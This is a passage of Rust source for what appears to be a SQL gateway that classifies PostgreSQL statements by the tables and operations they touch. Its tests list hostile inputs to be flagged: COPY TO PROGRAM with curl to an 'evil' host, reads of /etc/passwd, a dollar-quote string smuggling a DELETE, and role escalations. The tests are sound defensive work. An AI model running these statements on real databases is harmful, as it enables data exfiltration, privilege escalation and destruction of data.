        // (And, by CASCADE, what depends on them anywhere: see below.)
        Statement::Drop { object_type: ObjectType::Schema, names, cascade: true, .. } => {
            out.extend(names.iter().map(|n| TableName::every(Some(n))));
            out.insert(TableName::every(None));
        }
        // CASCADE drops what depends on the objects, wherever: a type's or domain's columns, a
        // function's or sequence's defaults, triggers and views, other tables' foreign keys.
        // Which tables those are is not in the text: every table.
        Statement::Drop { names, table, cascade, .. } => {
            names.iter().chain(table).for_each(add);
            if *cascade {
                out.insert(TableName::every(None));
            }
        }
        Statement::DropFunction(sqlparser::ast::DropFunction { drop_behavior, .. })
        | Statement::DropDomain(sqlparser::ast::DropDomain { drop_behavior, .. })
        | Statement::DropProcedure { drop_behavior, .. }
            if matches!(drop_behavior, Some(sqlparser::ast::DropBehavior::Cascade)) =>
        {
            out.insert(TableName::every(None));
        }
        Statement::DropExtension(sqlparser::ast::DropExtension {
            cascade_or_restrict: Some(sqlparser::ast::ReferentialAction::Cascade),
            ..
        }) => {
            out.insert(TableName::every(None));
        }
        // A new name or owner for the schema is one for each of its tables (the owner of a
        // schema may drop what is in it).
        Statement::AlterSchema(a) => {
            out.insert(TableName::every(Some(&a.name)));
        }
        Statement::Comment { object_type, object_name, .. } => match object_type {
            K::Table | K::View | K::MaterializedView | K::ForeignTable | K::Sequence | K::Index => {
                add(object_name)
            }
            // `[schema.]table.column`.
            K::Column => {
                let mut n = object_name.clone();
                if n.0.len() > 1 {
                    n.0.pop();
                }
                add(&n)
            }
            _ => {}
        },
        Statement::Grant(sqlparser::ast::Grant { objects, .. })
        | Statement::Revoke(sqlparser::ast::Revoke { objects, .. }) => {
            out.extend(objects.iter().flat_map(granted_on));
        }
        Statement::Vacuum(v) => {
            out.insert(maintained(v.table_name.as_ref()));
        }
        Statement::Analyze(a) => {
            // The visitor took an option the parser misread for the table.
            if let Some(misread) = a.table_name.as_ref().filter(|n| is_maintenance_option(n))
                && let Some(t) = TableName::from_object_name(misread)
            {
                out.remove(&t);
            }
            out.insert(maintained(a.table_name.as_ref()));
        }
        Statement::CreateTrigger(t) => {
            add(&t.table_name);
            t.referenced_table_name.iter().for_each(add);
        }
        Statement::DropTrigger(t) => t.table_name.iter().for_each(add),
        Statement::CreateSequence { name, sequence_options, .. } => {
            add(name);
            for o in sequence_options {
                // `OWNED BY [schema.]table.column`.
                if let SequenceOptions::OwnedBy(Some(column)) = o
                    && column.0.len() > 1
                {
                    add(&ObjectName(column.0[..column.0.len() - 1].to_vec()));
                }
            }
        }
        Statement::CreateTable(t) => {
            t.inherits.iter().flatten().for_each(&mut add);
            if let Some(CreateTableLikeKind::Parenthesized(l) | CreateTableLikeKind::Plain(l)) = &t.like {
                add(&l.name);
            }
            for c in &t.columns {
                references_of_column(c).for_each(&mut add);
            }
            t.constraints.iter().filter_map(referenced_table).for_each(add);
        }
        Statement::AlterTable(t) => {
            for op in &t.operations {
                match op {
                    A::AddConstraint { constraint, .. } => {
                        referenced_table(constraint).into_iter().for_each(&mut add)
                    }
                    A::AddColumn { column_def, .. } => references_of_column(column_def).for_each(&mut add),
                    A::AttachPartitionOf { partition, .. } | A::DetachPartitionOf { partition, .. } => {
                        add(partition)
                    }
                    A::Inherit { parent } | A::NoInherit { parent } => add(parent),
                    A::SwapWith { table_name } => add(table_name),
                    _ => {}
                }
            }
        }
        // The index, as `DROP INDEX` reports it.
        Statement::AlterIndex { name, .. } => add(name),
        Statement::RenameTable(r) => r.iter().for_each(|r| add(&r.old_name)),
        _ => {}
    }
}

/// The tables a `GRANT` or `REVOKE` acts on.
fn granted_on(objects: &sqlparser::ast::GrantObjects) -> Vec<TableName> {
    use sqlparser::ast::GrantObjects as G;
    match objects {
        G::Tables(names) | G::Views(names) | G::Sequences(names) => {
            names.iter().filter_map(TableName::from_object_name).collect()
        }
        G::AllTablesInSchema { schemas }
        | G::AllSequencesInSchema { schemas }
        | G::AllViewsInSchema { schemas }
        | G::AllMaterializedViewsInSchema { schemas }
        | G::AllExternalTablesInSchema { schemas }
        | G::FutureTablesInSchema { schemas }
        | G::FutureViewsInSchema { schemas }
        | G::FutureExternalTablesInSchema { schemas }
        | G::FutureMaterializedViewsInSchema { schemas }
        | G::FutureSequencesInSchema { schemas } => {
            schemas.iter().map(|s| TableName::every(Some(s))).collect()
        }
        G::FutureSchemasInDatabase { .. } => vec![TableName::every(None)],
        // Functions, schemas, databases and the like: not tables.
        _ => vec![],
    }
}

/// What `VACUUM` or `ANALYZE` acts on: the table named, else every table.
fn maintained(name: Option<&ObjectName>) -> TableName {
    match name.filter(|n| !is_maintenance_option(n)).and_then(TableName::from_object_name) {
        Some(t) => t,
        None => TableName::every(None),
    }
}

/// Is this "table" of a `VACUUM` or `ANALYZE` one of PostgreSQL's options the parser does not
/// know (`VACUUM FREEZE`, `ANALYZE VERBOSE`)? They are reserved words, never an unquoted table
/// name, and with no table after them the server acts on every table.
fn is_maintenance_option(n: &ObjectName) -> bool {
    matches!(n.0.as_slice(), [ObjectNamePart::Identifier(id)]
        if id.quote_style.is_none()
            && ["analyse", "analyze", "freeze", "full", "verbose"]
                .contains(&id.value.to_ascii_lowercase().as_str()))
}

/// The table a foreign key constraint references.
fn referenced_table(c: &sqlparser::ast::TableConstraint) -> Option<&ObjectName> {
    match c {
        sqlparser::ast::TableConstraint::ForeignKey(fk) => Some(&fk.foreign_table),
        _ => None,
    }
}

/// The tables a column's `REFERENCES` clauses name.
fn references_of_column(c: &sqlparser::ast::ColumnDef) -> impl Iterator<Item = &ObjectName> {
    c.options.iter().filter_map(|o| match &o.option {
        sqlparser::ast::ColumnOption::ForeignKey(fk) => Some(&fk.foreign_table),
        _ => None,
    })
}

/// `op`, and what else the statement does under it: an upsert's `DO UPDATE` updates, a MERGE
/// inserts, updates or deletes as its `WHEN` clauses say; a rule on those operations must meet
/// them.
fn with_implied(op: Operation, stmt: &Statement) -> Vec<Operation> {
    use sqlparser::ast::{MergeAction, OnConflict, OnConflictAction, OnInsert};
    let mut ops = vec![op];
    match stmt {
        Statement::Insert(i) => {
            if let Some(OnInsert::OnConflict(OnConflict { action: OnConflictAction::DoUpdate(_), .. })) =
                &i.on
            {
                ops.push(Operation::Update);
            }
        }
        Statement::Merge(m) => {
            for clause in &m.clauses {
                let implied = match clause.action {
                    MergeAction::Insert(_) => Operation::Insert,
                    MergeAction::Update(_) => Operation::Update,
                    MergeAction::Delete { .. } => Operation::Delete,
                    MergeAction::DoNothing { .. } => continue,
                };
                if !ops.contains(&implied) {
                    ops.push(implied);
                }
            }
        }
        _ => {}
    }
    ops
}

fn classify_statement(top: &Statement, c: &mut Classification) {
    // Every statement node, the top one and any nested in CTEs, EXPLAIN, PREPARE, DECLARE.
    if let Statement::Copy { to, target, source, payload, .. } = top {
        use sqlparser::ast::{CopySource, CopyTarget};
        // The parser takes the lines after `COPY … FROM STDIN;` as its data; the server never
        // reads data from a Query message, and runs those lines as SQL.
        if payload.is_some() {
            c.unparsed.get_or_insert_with(|| {
                "text after COPY … FROM STDIN; in the same message (the server runs it as SQL, not as data)".into()
            });
        }
        c.copies_in |= !*to && matches!(target, CopyTarget::Stdin);
        if !matches!(target, CopyTarget::Stdin | CopyTarget::Stdout) {
            c.denied_function.get_or_insert_with(|| "COPY to or from a server file or program".into());
        }
        if let CopySource::Table { table_name, .. } = source
            && let Some(t) = TableName::from_object_name(table_name)
        {
            let op = if *to { Operation::Select } else { Operation::Insert };
            c.accesses.insert(Access { operation: op, table: Some(t.clone()) });
            c.accesses.insert(Access { operation: Operation::Copy, table: Some(t) });
        }
    }
    let _ = visit_statements(top, |stmt| {
        if let Statement::Execute { name: Some(name), .. } = stmt {
            // Anywhere: at the top, or inside EXPLAIN ANALYZE.
            c.executes.push(function_name(name));
        }
        match operation(stmt) {
            None if matches!(stmt, Statement::Execute { name: Some(_), .. }) => {}
            None => {
                let kind = format!("{stmt}");
                let kind: String = kind.split_whitespace().next().unwrap_or("statement").to_uppercase();
                c.unknown = Some(format!("the effect of {kind} cannot be known"));
            }
            Some(op) => {
                let ops = with_implied(op, stmt);
                let rels = relations_of(stmt);
                if rels.is_empty() {
                    c.accesses.extend(ops.iter().map(|&operation| Access { operation, table: None }));
                }
                for t in rels {
                    for &operation in ops.iter().filter(|&&o| o != Operation::Select) {
                        c.accesses.insert(Access { operation, table: Some(t.clone()) });
                    }
                    c.accesses.insert(Access { operation: Operation::Select, table: Some(t) });
                }
            }
        }
        ControlFlow::<()>::Continue(())
    });
    if let Statement::Call(f) = top {
        c.unknown = Some(format!("CALL {} can do anything", function_name(&f.name)));
        c.accesses.insert(Access { operation: Operation::Call, table: None });
    }
    let mut calls = Calls { c };
    let _ = top.visit(&mut calls);
}

/// Judges every function call: in expressions and in FROM (`SELECT * FROM f()`).
struct Calls<'a> {
    c: &'a mut Classification,
}

impl Calls<'_> {
    /// A call of the unqualified function `name`.
    fn call_bare(&mut self, name: &str) {
        self.call(&ObjectName::from(vec![sqlparser::ast::Ident::new(name)]));
    }

    fn call(&mut self, name: &ObjectName) {
        let c = &mut *self.c;
        let full = function_name(name);
        let bare = full.rsplit('.').next().unwrap_or_default().to_string();
        let system = full == bare || full.starts_with("pg_catalog.");
        if system && is_denied_builtin(&bare) {
            c.denied_function.get_or_insert(bare);
        } else if system && READ_ONLY_FUNCTIONS.contains(&bare.as_str()) {
            if full == bare {
                c.builtins.insert(FunctionRef { schema: None, name: bare });
            }
        } else {
            let parts: Vec<String> = name
                .0
                .iter()
                .filter_map(|p| match p {
                    ObjectNamePart::Identifier(id) => Some(ident_name(id)),
                    ObjectNamePart::Function(_) => None,
                })
                .collect();
            match parts.as_slice() {
                [n] => c.functions.insert(FunctionRef { schema: None, name: n.clone() }),
                [.., s, n] => c.functions.insert(FunctionRef { schema: Some(s.clone()), name: n.clone() }),
                [] => {
                    c.unknown = Some(format!("function {full}() cannot be identified"));
                    false
                }
            };
        }
    }
}

impl Calls<'_> {
    fn cast(&mut self, t: &DataType) {
        if let Some(name) = user_type(t) {
            self.c.unknown = Some(format!("a cast to {name}, which may run user functions"));
        }
    }
}

/// The name of a type that is not a well-known built-in (a domain or another user type).
fn user_type(t: &DataType) -> Option<String> {
    match t {
        DataType::Custom(name, _) => {
            let full = function_name(name);
            let bare = full.rsplit('.').next().unwrap_or_default();
            let system = full == bare || full.starts_with("pg_catalog.");
            (!(system && BUILTIN_TYPES.contains(&bare))).then_some(full)
        }
        DataType::Array(
            ArrayElemTypeDef::AngleBracket(inner)
            | ArrayElemTypeDef::SquareBracket(inner, _)
            | ArrayElemTypeDef::Parenthesis(inner)
            | ArrayElemTypeDef::ParenthesisNotNull(inner)
            | ArrayElemTypeDef::Qualified(inner, _),
        ) => user_type(inner),
        _ => None,
    }
}

/// Built-in type names sqlparser does not have a variant for.
const BUILTIN_TYPES: &[&str] = &[
    "inet",
    "cidr",
    "macaddr",
    "macaddr8",
    "money",
    "oid",
    "regclass",
    "regtype",
    "regproc",
    "regprocedure",
    "regoper",
    "regoperator",
    "regnamespace",
    "regrole",
    "regconfig",
    "regdictionary",
    "regcollation",
    "tsvector",
    "tsquery",
    "xml",
    "point",
    "line",
    "lseg",
    "box",
    "path",
    "polygon",
    "circle",
    "int4range",
    "int8range",
    "numrange",
    "tsrange",
    "tstzrange",
    "daterange",
    "int4multirange",
    "int8multirange",
    "nummultirange",
    "tsmultirange",
    "tstzmultirange",
    "datemultirange",
    "xid",
    "xid8",
    "cid",
    "tid",
    "pg_lsn",
    "txid_snapshot",
    "pg_snapshot",
    "name",
    "bpchar",
    "citext",
    "serial",
    "bigserial",
    "smallserial",
    "int2",
    "int4",
    "int8",
    "float4",
    "float8",
    "bool",
    "varbit",
    "bit",
    "timetz",
    "jsonpath",
    "record",
    "void",
    "any",
    "anyelement",
    "cstring",
    "aclitem",
];

impl Visitor for Calls<'_> {
    type Break = ();

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
        match e {
            Expr::Function(f) => self.call(&f.name),
            // Calls the parser gives nodes of their own, which the server resolves by
            // search_path like any other (a user's `public.ceil(int)` comes first for an int):
            // `ceil(x)`, `floor(x)`, `substring(a, b)`, `convert(a, b, c)`. The keyword forms
            // (`substring(a FROM b)`, `trim`, `position`, `extract`) name pg_catalog's.
            Expr::Ceil { .. } => self.call_bare("ceil"),
            Expr::Floor { .. } => self.call_bare("floor"),
            Expr::Substring { special: true, .. } => self.call_bare("substring"),
            Expr::Convert { .. } => self.call_bare("convert"),
            // `o.name` and `(expr).name`: a column, or a call of `name(o)`.
            Expr::CompoundIdentifier(parts) if parts.len() >= 2 => {
                if let Some(last) = parts.last() {
                    self.c.attribute_calls.insert(ident_name(last));
                }
            }
            Expr::CompoundFieldAccess { access_chain, .. } => {
                for a in access_chain {
                    match a {
                        AccessExpr::Dot(Expr::Identifier(id)) => {
                            self.c.attribute_calls.insert(ident_name(id));
                        }
                        AccessExpr::Dot(Expr::CompoundIdentifier(ids)) => {
                            self.c.attribute_calls.extend(ids.iter().map(ident_name));
                        }
                        AccessExpr::Dot(_) => {
                            self.c.unknown = Some("a field selection the gateway cannot read".into());
                        }
                        AccessExpr::Subscript(_) => {}
                    }
                }
            }
            // A user-defined operator runs a function the text does not name.
            Expr::BinaryOp { op: BinaryOperator::Custom(o), .. } => {
                self.c.unknown = Some(format!("operator {o} may run a user function"));
            }
            Expr::BinaryOp { op: BinaryOperator::PGCustomBinaryOperator(o), .. } => {
                self.c.unknown = Some(format!("OPERATOR({}) may run a user function", o.join(".")));
            }
            // A cast to a user type (a domain's CHECK, a user cast) runs functions too.
            Expr::Cast { data_type, .. } => self.cast(data_type),
            Expr::TypedString(t) => self.cast(&t.data_type),
            // `x AS name` inside a call's parentheses: PostgreSQL reads `CAST(x AS name)` or
            // `TREAT(x AS name)` there (in FROM, sqlparser takes them for table functions with
            // such an argument), so `name` is a type the value is converted to.
            Expr::Named { name, .. } => {
                let unquoted = name.quote_style.is_none().then(|| {
                    Parser::new(&PostgreSqlDialect {})
                        .try_with_sql(&name.value)
                        .and_then(|mut p| p.parse_data_type())
                });
                match unquoted {
                    Some(Ok(t)) => self.cast(&t),
                    _ => self.cast(&DataType::Custom(ObjectName::from(vec![name.clone()]), vec![])),
                }
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
        // Row locks anywhere (a CTE, a subquery) write lock markers on the rows.
        if !q.locks.is_empty() {
            self.c.accesses.insert(Access { operation: Operation::Lock, table: None });
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<()> {
        // Column types given in an alias (`jsonb_to_record(...) AS t(a some_domain)`): values
        // are converted to them.
        let alias = match t {
            TableFactor::Table { alias, .. }
            | TableFactor::Function { alias, .. }
            | TableFactor::TableFunction { alias, .. }
            | TableFactor::UNNEST { alias, .. }
            | TableFactor::Derived { alias, .. } => alias.as_ref(),
            _ => None,
        };
        for d in alias.into_iter().flat_map(|a| &a.columns).filter_map(|c| c.data_type.as_ref()) {
            self.cast(d);
        }
        match t {
            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => {
                self.call(name)
            }
            // Table-valued forms the gateway does not inspect: their effect is unknown.
            TableFactor::Table { .. }
            | TableFactor::Derived { .. }
            | TableFactor::TableFunction { .. }
            | TableFactor::UNNEST { .. }
            | TableFactor::NestedJoin { .. } => {}
            _ => {
                self.c.unknown = Some("a table expression the gateway cannot inspect".into());
            }
        }
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(c: &Classification, op: Operation, table: &str) -> bool {
        c.accesses
            .iter()
            .any(|a| a.operation == op && a.table.as_ref().is_some_and(|t| t.to_string() == table))
    }

    #[test]
    fn select_reads_its_tables() {
        let mut c = classify("SELECT o.id FROM Orders o JOIN public.users u ON u.id = o.user_id");
        assert!(has(&c, Operation::Select, "orders"));
        assert!(has(&c, Operation::Select, "public.users"));
        // Columns by name, once the catalog says no function is called so.
        assert_eq!(c.attribute_calls.iter().map(String::as_str).collect::<Vec<_>>(), ["id", "user_id"]);
        c.resolve_attribute_calls(|_| AttributeCall::NoFunction);
        assert!(c.unknown_effect().is_none() && c.unparsed.is_none());
        assert_eq!(c.operations(), vec!["select"]);
    }

    #[test]
    fn dollar_quotes_the_server_and_the_parser_could_end_differently_are_refused() {
        for sql in [
            "SELECT $a€$ , $$ $a€$; DELETE FROM orders; --$$",
            "SELECT $€$ x $€$",
            "SELECT $é$ x $é$",
            "PREPARE p(int) AS SELECT $1a$; DELETE FROM orders; PREPARE q(int) AS SELECT $1a$",
            "SELECT $1$",
            "SELECT 'a $b€$ c'",
        ] {
            assert!(classify(sql).unparsed.is_some(), "{sql}");
        }
        // Tags of ASCII letters, digits and `_`, parameters, and money signs are read alike.
        for sql in ["SELECT $a1_$ x $a1_$", "SELECT $$ € $$", "SELECT $1 + $2", "SELECT '$5 and $€'"] {
            assert!(classify(sql).unparsed.is_none(), "{sql}");
        }
    }

    #[test]
    fn a_decision_lists_operations_and_tables_sorted_and_once() {
        let c = classify(
            "UPDATE b SET x = 1; SELECT * FROM public.a, b; INSERT INTO a VALUES (1); UPDATE a SET y = 2",
        );
        assert_eq!(c.operations(), vec!["insert", "select", "update"]);
        assert_eq!(c.tables(), vec!["a", "b", "public.a"]);
        assert!(classify("SELECT 1").tables().is_empty());
    }

    #[test]
    fn quoted_names_keep_case_unquoted_fold() {
        let c = classify(r#"DELETE FROM "Orders"; delete from ORDERS"#);
        assert!(has(&c, Operation::Delete, "Orders"));
        assert!(has(&c, Operation::Delete, "orders"));
        assert_eq!(c.statements, 2);
    }

    #[test]
    fn writes_hidden_in_ctes_are_found() {
        let c = classify("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");
        assert!(has(&c, Operation::Delete, "orders"), "{c:?}");
    }

    #[test]
    fn explain_analyze_and_prepare_expose_the_inner_write() {
        assert!(has(&classify("EXPLAIN ANALYZE DELETE FROM orders"), Operation::Delete, "orders"));
        assert!(has(&classify("PREPARE p AS UPDATE orders SET total = 0"), Operation::Update, "orders"));
    }

    #[test]
    fn sql_prepare_then_execute_resolves_to_the_prepared_write() {
        let p = classify("PREPARE p(int) AS DELETE FROM orders WHERE id = $1");
        let prepared: std::collections::HashMap<_, _> = p
            .effects
            .into_iter()
            .filter_map(|e| match e {
                SessionEffect::Prepare(n, c) => Some((n, *c)),
                _ => None,
            })
            .collect();
        assert_eq!(prepared.len(), 1);
        let mut same = classify("PREPARE q AS UPDATE orders SET id = 1; EXECUTE q");
        same.resolve_executes(|_| None);
        assert!(has(&same, Operation::Update, "orders") && same.unknown_effect().is_none(), "{same:?}");
        let mut e = classify("EXECUTE p(1)");
        assert!(e.unknown_effect().is_some(), "unknown until resolved");
        e.resolve_executes(|n| prepared.get(n).cloned());
        assert!(e.unknown_effect().is_none(), "{e:?}");
        assert!(has(&e, Operation::Delete, "orders"), "{e:?}");
        let mut other = classify("EXECUTE q(1)");
        other.resolve_executes(|n| prepared.get(n).cloned());
        assert!(other.unknown_effect().is_some(), "an unknown name stays unknown");
        // Order matters: an EXECUTE runs what the name is when it runs.
        let mut later = classify("EXECUTE p(1); DEALLOCATE p; PREPARE p AS SELECT 1");
        later.resolve_executes(|n| prepared.get(n).cloned());
        assert!(has(&later, Operation::Delete, "orders"), "the session's p runs first: {later:?}");
        let mut gone = classify("DEALLOCATE p; EXECUTE p(1)");
        gone.resolve_executes(|n| prepared.get(n).cloned());
        assert!(gone.unknown_effect().is_some(), "{gone:?}");
        let mut mixed = classify("EXECUTE p(1); SELECT my_func()");
        mixed.resolve_executes(|n| prepared.get(n).cloned());
        assert!(mixed.unknown_effect().is_some(), "other unknowns stay");
    }

    #[test]
    fn copy_direction_decides_read_or_write() {
        let c = classify("COPY orders FROM STDIN");
        assert!(has(&c, Operation::Insert, "orders") && has(&c, Operation::Copy, "orders"), "{c:?}");
        let c = classify("COPY orders TO STDOUT");
        assert!(!has(&c, Operation::Insert, "orders") && has(&c, Operation::Select, "orders"), "{c:?}");
        assert!(classify("COPY orders TO PROGRAM 'curl evil'").denied_function.is_some());
        assert!(classify("COPY orders FROM '/etc/passwd'").denied_function.is_some());
    }

    #[test]
    fn rights_widening_session_changes_are_escalations() {
        for sql in [
            "SET ROLE postgres",
            "set role = 'admin'",
            "SET SESSION ROLE admin",
            "SET LOCAL ROLE admin",
            "RESET ROLE",
            "RESET ALL",
            "SET SESSION AUTHORIZATION postgres",
            "RESET SESSION AUTHORIZATION",
            "SET default_transaction_read_only = off",
            "SET transaction_read_only TO off",
            "set SESSION default_transaction_read_only to false",
            "BEGIN READ WRITE",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "SET TRANSACTION READ WRITE",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        ] {
            let c = classify(sql);
            assert!(
                c.unparsed.is_some() || c.accesses.iter().any(|a| a.operation == Operation::Escalate),
                "{sql}: {c:?}"
            );
        }
        for sql in ["SET search_path TO public", "BEGIN", "BEGIN READ ONLY", "SET statement_timeout = 5"] {
            let c = classify(sql);
            assert!(!c.accesses.iter().any(|a| a.operation == Operation::Escalate), "{sql}: {c:?}");
        }
    }

    #[test]
    fn select_into_is_a_create() {
        for sql in [
            "SELECT * INTO stolen FROM users",
            "SELECT 1 AS x INTO evil UNION SELECT 2",
            "(SELECT 1 AS x INTO evil)",
            "SELECT 1 AS x INTO evil UNION ALL (SELECT 2 EXCEPT SELECT 3)",
        ] {
            let c = classify(sql);
            assert!(c.accesses.iter().any(|a| a.operation == Operation::Create), "{sql}: {c:?}");
        }
    }

    #[test]
    fn a_name_read_as_a_field_may_be_a_call() {
        for (sql, name) in [
            ("SELECT (0::oid).lo_create", "lo_create"),
            ("SELECT o.touch FROM orders o", "touch"),
            ("SELECT (o).Touch FROM orders o", "touch"),
            ("SELECT public.orders.touch FROM orders", "touch"),
            ("SELECT 1 FROM orders o ORDER BY o.touch", "touch"),
        ] {
            let c = classify(sql);
            assert!(c.attribute_calls.contains(name), "{sql}: {c:?}");
            assert!(c.unknown_effect().is_some(), "{sql}: unknown until the catalog answers");
        }
        let mut c = classify("SELECT (2147483647).pg_terminate_backend, o.id FROM orders o");
        c.resolve_attribute_calls(|n| match n {
            "pg_terminate_backend" => AttributeCall::Denied,
            _ => AttributeCall::NoFunction,
        });
        assert_eq!(c.denied_function.as_deref(), Some("pg_terminate_backend"));
        let mut c = classify("SELECT o.id, o.item FROM orders o");
        c.resolve_attribute_calls(|_| AttributeCall::NoFunction);
        assert!(c.unknown_effect().is_none(), "{c:?}");
    }

    #[test]
    fn execute_and_call_have_unknown_effect() {
        assert!(classify("EXECUTE p").unknown_effect().is_some());
        assert!(classify("CALL do_things()").unknown_effect().is_some());
    }

    #[test]
    fn dangerous_builtins_are_flagged_and_unknown_functions_are_unknown() {
        assert_eq!(
            classify("SELECT pg_terminate_backend(123)").denied_function.as_deref(),
            Some("pg_terminate_backend")
        );
        assert_eq!(classify("select LO_IMPORT('/etc/passwd')").denied_function.as_deref(), Some("lo_import"));
        assert_eq!(
            classify("select pg_catalog.set_config('role','x',false)").denied_function.as_deref(),
            Some("set_config")
        );
        assert!(classify("SELECT my_func(1)").unknown_effect().is_some());
        // Functions that read tables the statement does not name.
        for f in [
            "table_to_xml('orders', true, false, '')",
            "database_to_xml(true, false, '')",
            "query_to_xml('SELECT * FROM orders', true, false, '')",
            "ts_stat('SELECT body FROM notes')",
            "ts_rewrite('x'::tsquery, 'SELECT email::tsquery, ''y''::tsquery FROM users')",
        ] {
            assert!(classify(&format!("SELECT {f}")).denied_function.is_some(), "{f}");
        }
        // Read-only built-ins are known, but an unqualified name is still looked up: a user
        // function of the same name may be the one the server picks.
        let c = classify("SELECT count(*), lower(name) FROM users");
        assert!(c.functions.is_empty() && c.denied_function.is_none(), "{c:?}");
        assert_eq!(c.builtins.iter().map(|f| f.name.as_str()).collect::<Vec<_>>(), ["count", "lower"]);
        let c = classify("SELECT pg_catalog.lower(name) FROM users");
        assert!(c.unknown_effect().is_none(), "{c:?}");
        // Operators and casts that run user functions the text does not name.
        assert!(classify("SELECT 1 ### 2").unknown.is_some());
        assert!(classify("SELECT 5::my_domain").unknown.is_some());
        // Types a statement converts values to, other than by a cast.
        assert!(classify("PREPARE p(my_domain) AS SELECT $1").unknown.is_some());
        assert!(classify("PREPARE p(int, text[]) AS SELECT $1, $2").unknown.is_none());
        assert!(classify(r#"SELECT * FROM jsonb_to_record('{"a":1}') AS t(a my_domain)"#).unknown.is_some());
        assert!(classify(r#"SELECT * FROM jsonb_to_record('{"a":1}') AS t(a int)"#).unknown.is_none());
        assert!(classify("SELECT '5'::int4, now()::date, '10.0.0.1'::inet").unknown.is_none());
        // A cast in FROM, which sqlparser reads as a table function `cast` with an argument
        // `1 AS my_domain` (found by the generated differential corpus).
        assert!(classify("SELECT * FROM CAST(1 AS my_domain) f").unknown.is_some());
        assert!(classify("SELECT * FROM pg_catalog.cast(1 AS my_domain) f").unknown.is_some());
        assert!(classify("SELECT * FROM CAST(1 AS int) f").unknown.is_none());
        // Row locks anywhere.
        let c = classify("SELECT * FROM (SELECT * FROM orders FOR UPDATE) s");
        assert!(c.accesses.iter().any(|a| a.operation == Operation::Lock), "{c:?}");
    }

    #[test]
    fn garbage_is_unparsed_and_comments_are_seen_through() {
        assert!(classify("DELTE FROM orders").unparsed.is_some());
        assert!(classify("SELECT 'unterminated").unparsed.is_some());
        let c = classify("/* harmless */ DROP TABLE -- x\n orders");
        assert!(has(&c, Operation::Drop, "orders"), "{c:?}");
    }

    #[test]
    fn ddl_targets_are_tables() {
        for (sql, op) in [
            ("CREATE TABLE orders_copy (id int)", Operation::Create),
            ("ALTER TABLE orders ADD COLUMN x int", Operation::Alter),
            ("TRUNCATE orders", Operation::Truncate),
            ("DROP TABLE IF EXISTS orders CASCADE", Operation::Drop),
            ("CREATE INDEX i ON orders (id)", Operation::Create),
            ("INSERT INTO orders VALUES (1)", Operation::Insert),
            ("UPDATE orders SET id = 2", Operation::Update),
            ("DELETE FROM orders", Operation::Delete),
        ] {
            let c = classify(sql);
            let table = if sql.contains("orders_copy") { "orders_copy" } else { "orders" };
            assert!(has(&c, op, table), "{sql}: {c:?}");
        }
    }

    #[test]
    fn patterns_match_schema_and_globs() {
        for loose in [false, true] {
            let t = TableName { parts: vec!["public".into(), "orders".into()] };
            assert!(t.matches("orders", loose));
            assert!(t.matches("public.orders", loose));
            assert!(t.matches("ORDERS", loose));
            assert!(!t.matches("audit.orders", loose));
            assert!(t.matches("ord*", loose));
            assert!(t.matches("*", loose));
            assert!(!t.matches("users", loose));
            let bare = TableName { parts: vec!["orders".into()] };
            assert!(bare.matches("public.orders", loose), "unqualified may resolve to any schema");
            assert!(!t.matches("db.public.orders", loose));
            // Patterns are lowercased as Unicode: a titlecase letter is not "uppercase", but folds.
            let odd = TableName { parts: vec!["\u{1c6}_t".into()] };
            assert!(odd.matches("\u{1c5}_t", loose) && odd.matches("\u{1c4}_T", loose));
        }
        // A name that kept capitals: deny and hold rules (loose) match it whatever the case,
        // an allow rule (exact) does not, since its pattern folds.
        let quoted = TableName { parts: vec!["public".into(), "User".into()] };
        for p in ["User", "user", "USER", "public.User", "Us*"] {
            assert!(quoted.matches(p, true), "{p}");
            assert!(!quoted.matches(p, false), "{p}");
        }
    }

    #[test]
    fn text_after_copy_from_stdin_is_unparsed_and_calls_with_nodes_of_their_own_are_resolved() {
        let c = classify("COPY payments FROM STDIN;\nDELETE FROM orders;");
        assert!(c.unparsed.is_some(), "{c:?}");
        for plain in ["COPY payments FROM STDIN", "COPY payments FROM STDIN;\n"] {
            let c = classify(plain);
            assert!(c.unparsed.is_none() && has(&c, Operation::Copy, "payments"), "{plain}: {c:?}");
        }
        for (sql, name) in [
            ("SELECT ceil(x) FROM t", "ceil"),
            ("SELECT floor(x) FROM t", "floor"),
            ("SELECT substring(x, 2) FROM t", "substring"),
        ] {
            let c = classify(sql);
            let resolved = c.builtins.iter().chain(&c.functions).any(|f| f.name == name);
            assert!(resolved, "{sql}: {c:?}");
        }
        // The keyword form names pg_catalog's.
        let c = classify("SELECT substring(x FROM 2) FROM t");
        assert!(!c.builtins.iter().chain(&c.functions).any(|f| f.name == "substring"), "{c:?}");
    }

    #[test]
    fn upserts_update_and_merges_do_what_their_clauses_say() {
        let c = classify("INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET total = 0");
        assert!(has(&c, Operation::Insert, "orders") && has(&c, Operation::Update, "orders"), "{c:?}");
        let c = classify("INSERT INTO orders VALUES (1) ON CONFLICT DO NOTHING");
        assert!(has(&c, Operation::Insert, "orders") && !has(&c, Operation::Update, "orders"), "{c:?}");
        let c =
            classify("MERGE INTO orders o USING (SELECT 1 AS id) s ON o.id = s.id WHEN MATCHED THEN DELETE");
        assert!(has(&c, Operation::Merge, "orders") && has(&c, Operation::Delete, "orders"), "{c:?}");
        assert!(!has(&c, Operation::Insert, "orders") && !has(&c, Operation::Update, "orders"), "{c:?}");
        let c = classify(
            "MERGE INTO orders o USING new_orders s ON o.id = s.id \
             WHEN MATCHED AND s.total = 0 THEN DELETE WHEN MATCHED THEN UPDATE SET total = s.total \
             WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.total)",
        );
        for op in [Operation::Insert, Operation::Update, Operation::Delete] {
            assert!(has(&c, op, "orders"), "{op:?}: {c:?}");
        }
    }

    #[test]
    fn globs_match_runs_of_characters_and_no_pattern_is_slow() {
        for (pattern, name, want) in [
            ("a*b", "ab", true),
            ("a*b", "axxb", true),
            ("a*b", "axxbx", false),
            ("*_log", "audit_log", true),
